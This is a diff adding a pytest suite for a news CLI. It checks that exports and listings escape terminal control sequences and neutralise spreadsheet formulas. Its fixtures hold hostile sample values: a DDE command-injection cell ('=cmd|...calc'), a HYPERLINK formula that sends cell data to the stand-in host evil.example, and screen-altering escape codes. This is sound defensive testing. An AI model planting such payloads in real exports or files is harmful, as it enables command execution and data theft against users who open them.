@@ -1,0 +1,195 @@
+"""Hostile text on the way out: terminal escapes, spreadsheet formulas, tag lists, stdout errors."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from newscli import formats
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[31m"
+C1_CSI = "\x9b"  # a terminal's one-character CSI: `\x9b2J` clears the screen
+HOSTILE = {
+    "title": f"Evil {ESCAPES}title {C1_CSI}2J", "author": f"Bad {ESCAPES}author",
+    "source": "=cmd|' /C calc'!A0", "published": "2024-01-02",
+    "tags": [f"t{ESCAPES}ag", "@SUM(1+1)"], "body": f"Body {ESCAPES} and {C1_CSI}31m text.",
+}
+FORMULA = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "source": "+Wire",
+           "author": "-Ada", "published": "2024-01-03", "tags": ["=x"],
+           "body": "A plain body about a ferry."}
+
+
+def newscli(db: Path, *args: str) -> list[str]:
+    return [sys.executable, "-m", "newscli", "--db", str(db), *args]
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    feed = folder / "feed.jsonl"
+    feed.write_text("".join(json.dumps(r) + "\n" for r in (HOSTILE, FORMULA)), encoding="utf-8")
+    db = folder / "h.db"
+    subprocess.run(newscli(db, "import", str(feed)), check=True, capture_output=True)
+    return db
+
+
+def on_terminal(command: list[str]) -> tuple[int, bytes]:
+    """Run with stdout on a pseudo-terminal; its exit code and every byte it wrote there."""
+    import pty
+
+    leader, follower = pty.openpty()
+    proc = subprocess.Popen(command, stdout=follower, stderr=subprocess.DEVNULL,
+                            stdin=subprocess.DEVNULL, env={**os.environ, "PAGER": "cat"})
+    os.close(follower)
+    chunks = []
+    while True:
+        try:
+            chunk = os.read(leader, 65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(leader)
+    return proc.wait(), b"".join(chunks)
+
+
+# -- 5: terminal escapes -------------------------------------------------------------------------
+
+TERMINAL_COMMANDS = [
+    ["export", "--format", "markdown"], ["export", "--format", "csv"], ["export"],
+    ["export", "--format", "json"], ["tags", "--format", "csv"],
+    ["stats", "--by", "author", "--format", "csv"], ["stats", "--by", "author", "--format", "json"],
+    ["list", "--format", "csv"], ["list", "--format", "json"], ["list"], ["search", "body"],
+    ["show", "evil"], ["show", "evil", "--format", "json"], ["show", "evil", "--format", "markdown"],
+    ["tags"], ["dupes", "--format", "csv"],
+]
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="pseudo-terminal test")
+@pytest.mark.parametrize("args", TERMINAL_COMMANDS, ids=" ".join)
+def test_every_command_shows_escapes_literally_on_a_terminal(hostile_db, args):
+    code, out = on_terminal(newscli(hostile_db, *args))
+    assert code in (0, 1)
+    text = out.decode("utf-8")
+    assert "\x1b]" not in text and "\x07" not in text and "\x1b[31m" not in text
+    assert C1_CSI not in text
+    if code == 0 and args[0] != "dupes":
+        assert "\\x1b" in text or "\\u001b" in text or "\\e" in text  # shown, not dropped
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="pseudo-terminal test")
+@pytest.mark.parametrize("command", ["list", "export"])
+def test_csv_on_a_terminal_keeps_its_line_ends(hostile_db, command):
+    _, out = on_terminal(newscli(hostile_db, command, "--format", "csv"))
+    assert b"\\x0d" not in out and out.count(b"\r\n") >= 3  # CRLF row ends are not escaped
+
+
+@pytest.mark.parametrize("args", [
+    ["list", "--format", "json"], ["list", "--format", "jsonl"], ["export"],
+    ["export", "--format", "json"], ["show", "evil", "--format", "json"],
+    ["stats", "--by", "author"],
+])
+def test_json_escapes_every_control_character_piped(hostile_db, args):
+    proc = subprocess.run(newscli(hostile_db, *args), capture_output=True)
+    assert proc.returncode == 0, proc.stderr
+    text = proc.stdout.decode("utf-8")
+    assert not any(0x7f <= ord(c) <= 0x9f or ord(c) < 0x20 and c != "\n" for c in text)
+    assert "\\u009b" in text or args[0] == "stats"
+    lines = args[-1] == "jsonl" or args == ["export"]
+    data = [json.loads(line) for line in text.splitlines()] if lines else json.loads(text)
+    assert data
+
+
+def test_json_line_escapes_c1_del_and_lone_surrogates():
+    line = formats.to_json_line({"t": "a\x7fb\x85c\x9bd\ud800e\u00a0f\x1b"})
+    assert line == '{"t": "a\\u007fb\\u0085c\\u009bd\\ud800e\u00a0f\\u001b"}'
+    assert json.loads(line)["t"] == "a\x7fb\x85c\x9bd\ud800e\u00a0f\x1b"
+    line.encode("utf-8")  # a lone surrogate no longer makes the output unencodable
+
+
+# -- 6: spreadsheet formulas ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("a=1", "a=1"), ("'=1", "'=1"),
+    ("", ""), ("Ferry", "Ferry"),
+])
+def test_formula_cells_are_neutralised(cell, written):
+    assert formats.spreadsheet_cell(cell) == written
+    assert formats.spreadsheet_cell(cell, raw=True) == cell
+
+
+def test_numbers_are_never_neutralised():
+    assert formats.spreadsheet_cell(-3) == "-3" and formats.spreadsheet_cell(2.5) == "2.5"
+    assert formats.spreadsheet_cell(["=a", "b"]) == "'=a;b"
+
+
+def test_tsv_cells_neutralised_after_flattening():
+    out = io.StringIO()
+    formats.write_delimited([{"a": "\t=1", "b": "x"}], out, ("a", "b"), tsv=True)
+    assert out.getvalue().splitlines()[1] == "'=1\tx"
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def _formula_row(rows: list[dict[str, str]]) -> dict[str, str]:
+    return next(r for r in rows if "HYPERLINK" in r["title"])
+
+
+@pytest.mark.parametrize("extra", [[], ["--excel"]])
+def test_export_csv_neutralises_formulas_by_default_and_for_excel(hostile_db, extra):
+    proc = subprocess.run(newscli(hostile_db, "export", "--format", "csv", *extra),
+                          capture_output=True)
+    assert proc.returncode == 0, proc.stderr
+    row = _formula_row(_csv_rows(proc.stdout))
+    assert row["title"] == "'" + FORMULA["title"]
+    assert (row["source"], row["author"], row["tags"]) == ("'+Wire", "'-Ada", "'=x")
+    assert row["word_count"] == "6"
+    cells = [c for r in _csv_rows(proc.stdout) for c in r.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+@pytest.mark.parametrize("args", [
+    ["list", "--format", "csv"], ["list", "--format", "tsv"], ["list"],
+    ["search", "ferry OR body", "--format", "csv"], ["tags", "--format", "csv"],
+    ["stats", "--by", "source", "--format", "csv"], ["stats", "--by", "author", "--format", "csv"],
+])
+def test_every_csv_and_tsv_listing_neutralises_formulas(hostile_db, args):
+    proc = subprocess.run(newscli(hostile_db, *args), capture_output=True, text=True)
+    assert proc.returncode == 0, proc.stderr
+    delimiter = "," if "csv" in args else "\t"
+    rows = list(csv.reader(io.StringIO(proc.stdout, newline=""), delimiter=delimiter))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert any(c[:2] in ("'=", "'+", "'-", "'@") for c in cells)
+
+
+def test_raw_cells_gives_cells_as_stored(hostile_db):
+    proc = subprocess.run(newscli(hostile_db, "export", "--format", "csv", "--raw-cells"),
+                          capture_output=True)
+    assert proc.returncode == 0, proc.stderr
+    assert _formula_row(_csv_rows(proc.stdout))["title"] == FORMULA["title"]
+    listed = subprocess.run(newscli(hostile_db, "list", "--format", "tsv", "--raw-cells"),
+                            capture_output=True, text=True)
+    assert "\t=HYPERLINK" in listed.stdout and "\t+Wire\t" in listed.stdout
+
+
+@pytest.mark.parametrize(("args", "says"), [
+    (["--format", "csv", "--excel", "--raw-cells"], "one or the other"),
+    (["--format", "json", "--raw-cells"], "only applies to --format csv"),
+])
+def test_raw_cells_refused_where_it_cannot_apply(hostile_db, args, says):
+    proc = subprocess.run(newscli(hostile_db, "export", *args), capture_output=True, text=True)
+    assert proc.returncode == 2 and proc.stdout == ""
+    assert says in proc.stderr and "Traceback" not in proc.stderr
